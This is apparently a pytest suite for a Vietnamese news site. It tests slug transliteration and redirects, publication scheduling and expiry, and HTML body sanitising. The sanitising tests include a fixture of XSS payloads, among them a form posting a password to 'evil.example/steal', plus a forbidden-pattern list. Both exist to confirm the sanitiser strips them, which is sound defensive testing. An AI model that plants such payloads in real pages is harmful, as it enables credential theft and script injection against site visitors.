"""Articles as the model and services shape them: slugs, schedule and status, sanitised bodies."""

from __future__ import annotations

import time
from datetime import timedelta

import pytest
from sqlalchemy import select

from app.dates import utcnow
from app.extensions import db
from app.news.models import Article, ArticleSlug, ArticleStatus
from app.news.operations import update_article
from app.slugs import slugify


def article_url(slug: str) -> str:
    return f"/tin-tuc/{slug}"


# --- slugs -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("title", "slug"),
    [
        ("Đổi mới giáo dục", "doi-moi-giao-duc"),
        ("ĐẠI HỘI Đảng bộ tỉnh lần thứ XVIII", "dai-hoi-dang-bo-tinh-lan-thu-xviii"),
        ("Người dân được hỗ trợ đường điện", "nguoi-dan-duoc-ho-tro-duong-dien"),
        ("Ứng dụng   công nghệ: số hóa 100%!", "ung-dung-cong-nghe-so-hoa-100"),
    ],
)
def test_vietnamese_titles_become_ascii_slugs(title, slug):
    assert slugify(title) == slug


def test_a_title_without_letters_still_gets_a_slug():
    assert slugify("!!! ???") == "bai-viet"


def test_article_slug_is_transliterated_from_its_title(make_article, client):
    article = make_article("Đường về Điện Biên hôm nay")

    assert article.slug == "duong-ve-dien-bien-hom-nay"
    response = client.get(article_url("duong-ve-dien-bien-hom-nay"))
    assert response.status_code == 200
    assert "Đường về Điện Biên hôm nay" in response.text


def test_articles_with_the_same_title_get_numbered_slugs(make_article, client):
    first = make_article("Họp báo thường kỳ")
    second = make_article("Họp báo thường kỳ")
    third = make_article("Họp báo thường kỳ", lead="Bài thứ ba.")

    assert [first.slug, second.slug, third.slug] == [
        "hop-bao-thuong-ky",
        "hop-bao-thuong-ky-2",
        "hop-bao-thuong-ky-3",
    ]
    assert "Bài thứ ba." in client.get(article_url("hop-bao-thuong-ky-3")).text


def test_old_slug_redirects_permanently_after_a_slug_change(make_article, client):
    article = make_article("Tiêu đề ban đầu")

    update_article(article, title="Tiêu đề đã sửa", slug="Tiêu đề đã sửa")

    assert article.slug == "tieu-de-da-sua"
    response = client.get(article_url("tieu-de-ban-dau"))
    assert response.status_code == 301
    assert response.headers["Location"].endswith(article_url("tieu-de-da-sua"))
    page = client.get(article_url("tieu-de-da-sua"))
    assert page.status_code == 200
    assert "Tiêu đề đã sửa" in page.text


def test_every_earlier_slug_keeps_redirecting_to_the_current_one(make_article, client):
    article = make_article("Phiên bản một")
    update_article(article, slug="phien-ban-hai")
    update_article(article, slug="phien-ban-ba")

    for old in ("phien-ban-mot", "phien-ban-hai"):
        response = client.get(article_url(old))
        assert response.status_code == 301, old
        assert response.headers["Location"].endswith(article_url("phien-ban-ba"))


def test_title_change_alone_keeps_the_article_reachable(make_article, client):
    article = make_article("Tin ban đầu")
    update_article(article, title="Tin đã cập nhật")

    response = client.get(article_url("tin-ban-dau"), follow_redirects=True)
    assert response.status_code == 200
    assert "Tin đã cập nhật" in response.text


def test_a_new_article_never_takes_a_slug_another_article_used_before(make_article, client):
    moved = make_article("Lịch tiếp công dân")
    update_article(moved, slug="lich-tiep-cong-dan-thang-6")

    newcomer = make_article("Lịch tiếp công dân")

    assert newcomer.slug == "lich-tiep-cong-dan-2"
    response = client.get(article_url("lich-tiep-cong-dan"))
    assert response.status_code == 301
    assert response.headers["Location"].endswith(article_url("lich-tiep-cong-dan-thang-6"))


def test_slug_change_to_another_articles_slug_gets_a_suffix(make_article):
    make_article("Thông báo tuyển dụng")
    other = make_article("Thông báo khác")

    update_article(other, slug="thong-bao-tuyen-dung")

    assert other.slug == "thong-bao-tuyen-dung-2"


def test_an_article_can_reclaim_its_own_old_slug(make_article, client):
    article = make_article("Kế hoạch năm")
    update_article(article, slug="ke-hoach-nam-sua-doi")

    update_article(article, slug="ke-hoach-nam")

    assert article.slug == "ke-hoach-nam"
    assert client.get(article_url("ke-hoach-nam")).status_code == 200
    response = client.get(article_url("ke-hoach-nam-sua-doi"))
    assert response.status_code == 301
    assert response.headers["Location"].endswith(article_url("ke-hoach-nam"))
    db.session.expire_all()
    old = db.session.scalars(select(ArticleSlug.slug).where(ArticleSlug.article_id == article.id))
    assert sorted(old) == ["ke-hoach-nam-sua-doi"]


def test_setting_the_same_slug_again_records_no_history(make_article):
    article = make_article("Không đổi")
    update_article(article, slug="khong-doi", lead="Lead mới")

    assert article.slug == "khong-doi"
    assert (
        db.session.scalar(select(ArticleSlug).where(ArticleSlug.article_id == article.id)) is None
    )


# --- status and schedule -----------------------------------------------------------------------


def test_draft_is_hidden_from_readers(make_article, client):
    make_article("Bài hiển thị")
    draft = make_article("Bài nháp chưa duyệt", status=ArticleStatus.DRAFT)

    assert client.get(article_url(draft.slug)).status_code == 404
    assert "Bài nháp chưa duyệt" not in client.get("/").text
    assert "Bài nháp chưa duyệt" not in client.get("/chuyen-muc/tin-tuc").text


def test_scheduled_article_appears_once_its_time_passes(make_article, client):
    make_article("Bài đã đăng")
    due = utcnow() + timedelta(seconds=1)
    scheduled = make_article("Bài hẹn giờ đăng", status=ArticleStatus.SCHEDULED, published_at=due)

    assert client.get(article_url(scheduled.slug)).status_code == 404
    assert "Bài hẹn giờ đăng" not in client.get("/").text
    assert scheduled.effective_status() == ArticleStatus.SCHEDULED

    deadline = time.monotonic() + 5
    while utcnow() <= due and time.monotonic() < deadline:
        time.sleep(0.05)

    assert scheduled.effective_status() == ArticleStatus.PUBLISHED
    response = client.get(article_url(scheduled.slug))
    assert response.status_code == 200
    assert "Bài hẹn giờ đăng" in response.text
    assert "Bài hẹn giờ đăng" in client.get("/").text


def test_expired_article_leaves_public_pages(make_article, client):
    make_article("Bài còn hạn")
    article = make_article("Bài sắp hết hạn", expires_at=utcnow() + timedelta(days=1))
    assert client.get(article_url(article.slug)).status_code == 200

    update_article(article, expires_at=utcnow() - timedelta(minutes=1))

    assert client.get(article_url(article.slug)).status_code == 404
    assert "Bài sắp hết hạn" not in client.get("/").text
    assert "Bài sắp hết hạn" not in client.get("/chuyen-muc/tin-tuc").text
    assert "Bài sắp hết hạn" not in client.get("/feed.xml").text


def test_article_marked_expired_is_hidden_even_without_an_expiry_time(make_article, client):
    make_article("Bài còn hạn")
    article = make_article("Bài đã gỡ", status=ArticleStatus.EXPIRED)

    assert client.get(article_url(article.slug)).status_code == 404
    assert "Bài đã gỡ" not in client.get("/").text


def test_effective_status_follows_the_clock(make_article):
    now = utcnow()
    article = make_article(
        "Theo thời gian",
        status=ArticleStatus.SCHEDULED,
        published_at=now + timedelta(hours=1),
        expires_at=now + timedelta(hours=3),
    )

    assert article.effective_status(now) == ArticleStatus.SCHEDULED
    assert article.effective_status(now + timedelta(hours=2)) == ArticleStatus.PUBLISHED
    assert article.effective_status(now + timedelta(hours=3)) == ArticleStatus.EXPIRED
    assert not article.is_visible(now)
    assert article.is_visible(now + timedelta(hours=2))


def test_effective_status_keeps_drafts_drafts_whatever_the_dates(make_article):
    article = make_article(
        "Nháp", status=ArticleStatus.DRAFT, published_at=utcnow() - timedelta(days=1)
    )

    assert article.effective_status() == ArticleStatus.DRAFT
    assert not article.is_visible()


def test_published_without_a_date_is_stamped_now(make_article):
    before = utcnow()
    article = make_article("Đăng ngay", published_at=None)

    assert article.published_at is not None
    assert before - timedelta(seconds=1) <= article.published_at <= utcnow()
    assert article.effective_status() == ArticleStatus.PUBLISHED


def test_visible_clause_agrees_with_effective_status(make_article):
    now = utcnow()
    make_article("Hiện", published_at=now - timedelta(hours=1))
    make_article("Nháp", status=ArticleStatus.DRAFT, published_at=now - timedelta(hours=1))
    make_article("Hẹn", status=ArticleStatus.SCHEDULED, published_at=now + timedelta(hours=1))
    make_article("Hết", expires_at=now - timedelta(minutes=1), published_at=now - timedelta(days=1))
    make_article("Đến hạn", status=ArticleStatus.SCHEDULED, published_at=now - timedelta(minutes=1))

    visible = set(db.session.scalars(select(Article.title).where(Article.visible_clause(now))))
    by_status = {a.title for a in db.session.scalars(select(Article)) if a.is_visible(now)}

    assert visible == by_status == {"Hiện", "Đến hạn"}


# --- body sanitising ---------------------------------------------------------------------------

DANGEROUS_BODY = """
<p onclick="steal()">Đoạn mở đầu<script>alert('xss')</script></p>
<img src="/media/ok.jpg" onerror="steal()" alt="Ảnh">
<a href="javascript:alert(1)">liên kết độc</a>
<a href="JaVaScRiPt:alert(2)">liên kết độc 2</a>
<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="nhúng">
<a href="data:text/html,<script>alert(3)</script>">dữ liệu</a>
<iframe srcdoc="<script>alert(4)</script>"></iframe>
<style>body { display: none }</style>
<p style="position:fixed;top:0">Đoạn có style</p>
<form action="https://evil.example/steal" method="post"><input name="password"></form>
<base href="https://evil.example/">
<figure><img src="/media/hinh.jpg" alt="Cầu mới">
<figcaption>Cây cầu mới khánh thành</figcaption></figure>
<h2>Tiêu đề mục</h2>
<p><a href="https://example.gov.vn/">Cổng thông tin</a></p>
"""

FORBIDDEN = (
    "<script",
    "alert(",
    "onclick",
    "onerror",
    "javascript:",
    "data:",
    "<iframe",
    "srcdoc",
    "<style",
    "display: none",
    "style=",
    "<form",
    "<input",
    "evil.example",
    "<base",
)


def assert_sanitised(body: str) -> None:
    lowered = body.lower()
    for needle in FORBIDDEN:
        assert needle.lower() not in lowered, f"{needle!r} survived: {body}"
    assert "<figure" in body
    assert '<img src="/media/hinh.jpg" alt="Cầu mới">' in body
    assert "<figcaption>Cây cầu mới khánh thành</figcaption>" in body
    assert "<h2>Tiêu đề mục</h2>" in body
    assert 'href="https://example.gov.vn/"' in body
    assert "Đoạn mở đầu" in body
    assert "Đoạn có style" in body


def test_body_is_sanitised_on_create(make_article, client):
    article = make_article("Bài có mã độc", body=DANGEROUS_BODY)

    assert_sanitised(article.body)
    page = client.get(article_url(article.slug)).text
    body_html = page.split('<div class="article-body">', 1)[1].split("</div>", 1)[0]
    assert_sanitised(body_html)


def test_body_is_sanitised_on_update(make_article):
    article = make_article("Bài sạch", body="<p>Ban đầu</p>")

    update_article(article, body=DANGEROUS_BODY)

    db.session.expire_all()
    stored = db.session.get(Article, article.id)
    assert_sanitised(stored.body)


def test_sanitised_links_open_safely(make_article):
    article = make_article("Liên kết", body='<p><a href="https://example.org/">ngoài</a></p>')

    assert 'rel="noopener noreferrer nofollow"' in article.body
